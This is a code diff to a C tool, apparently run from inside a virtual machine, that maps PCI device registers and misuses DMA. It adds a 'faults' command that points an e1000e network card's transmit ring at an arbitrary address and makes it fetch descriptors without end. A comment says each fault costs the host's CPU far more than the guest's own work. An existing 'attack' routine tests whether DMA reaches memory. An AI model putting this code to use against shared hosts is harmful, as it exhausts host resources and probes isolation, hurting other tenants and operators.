@@ -30,6 +30,20 @@
 #define LINE_BYTES 64U
 #define ADDRESSES_MAX 64U
 
+/* Of an e1000e (Intel 82574L datasheet, 10.2): its first transmit queue. */
+#define NIC_BYTES 0x20000UL
+#define NIC_TCTL 0x400U
+#define NIC_TDBAL 0x3800U
+#define NIC_TDBAH 0x3804U
+#define NIC_TDLEN 0x3808U
+#define NIC_TDH 0x3810U
+#define NIC_TDT 0x3818U
+#define NIC_TCTL_ENABLE 2U
+#define NIC_DESCRIPTORS 256U
+#define NIC_DESCRIPTOR_BYTES 16U
+/* Between two faults: a store to it costs the host's CPU far more than the VM's instructions. */
+#define NIC_PAUSE 500U
+
 #define COMMAND_OFFSET 4
 #define COMMAND_DECODES 2U
 #define COMMAND_MASTER 4U
@@ -99,7 +113,7 @@ int command_bars(char **argument)
 	return 0;
 }
 
-static volatile uint8_t *map_edu(const char *function)
+static volatile uint8_t *map_function(const char *function, size_t bytes)
 {
 	int config = open_file(function, "config", O_RDWR);
 
@@ -107,13 +121,13 @@ static volatile uint8_t *map_edu(const char *function)
 	             config_read(config, COMMAND_OFFSET) | COMMAND_DECODES | COMMAND_MASTER);
 	close(config);
 	int fd = open_file(function, "resource0", O_RDWR | O_SYNC);
-	volatile uint8_t *edu = mmap(NULL, EDU_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	volatile uint8_t *registers = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
 
 	close(fd);
-	if (edu == MAP_FAILED) {
+	if (registers == MAP_FAILED) {
 		fail("resource0");
 	}
-	return edu;
+	return registers;
 }
 
 static void edu_set(volatile uint8_t *edu, unsigned at, uint64_t value)
@@ -194,7 +208,7 @@ static void attack(volatile uint8_t *edu, volatile uint64_t *page, uint64_t own,
  */
 int command_dma(char **argument)
 {
-	volatile uint8_t *edu = map_edu(argument[0]);
+	volatile uint8_t *edu = map_function(argument[0], EDU_BYTES);
 	uint64_t inverted = number(argument[1]);
 	volatile uint64_t *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
 	                               MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED, -1, 0);
@@ -215,4 +229,38 @@ int command_dma(char **argument)
 	memset((void *)(uintptr_t)page, 0, LINE_BYTES);
 	printf("%s\n", works ? "its own VM is reached" : "it reaches nothing");
 	return 0;
+}
+
+static void nic_set(volatile uint8_t *nic, unsigned at, uint32_t value)
+{
+	*(volatile uint32_t *)(volatile void *)(nic + at) = value;
+}
+
+/*
+ * faults FUNCTION ADDRESS: have an e1000e fetch descriptors from there without end; it says so once the
+ * first is fetched. What it reads where there is nothing is 0: a descriptor of no bytes, which it passes.
+ */
+int command_faults(char **argument)
+{
+	volatile uint8_t *nic = map_function(argument[0], NIC_BYTES);
+	uint64_t address = number(argument[1]);
+
+	nic_set(nic, NIC_TDBAL, (uint32_t)address);
+	nic_set(nic, NIC_TDBAH, (uint32_t)(address >> 32));
+	nic_set(nic, NIC_TDLEN, NIC_DESCRIPTORS * NIC_DESCRIPTOR_BYTES);
+	nic_set(nic, NIC_TDH, 0);
+	nic_set(nic, NIC_TDT, 0);
+	nic_set(nic, NIC_TCTL, NIC_TCTL_ENABLE);
+	for (uint32_t tail = 1;; tail = (tail + 1) % NIC_DESCRIPTORS) {
+		nic_set(nic, NIC_TDT, tail);
+		if (*(volatile uint32_t *)(volatile void *)(nic + NIC_TDH) != tail) {
+			fail("it fetches nothing");
+		}
+		if (tail == 1) {
+			printf("faulting\n");
+			fflush(stdout);
+		}
+		for (volatile unsigned i = 0; i < NIC_PAUSE; i++) {
+		}
+	}
 }
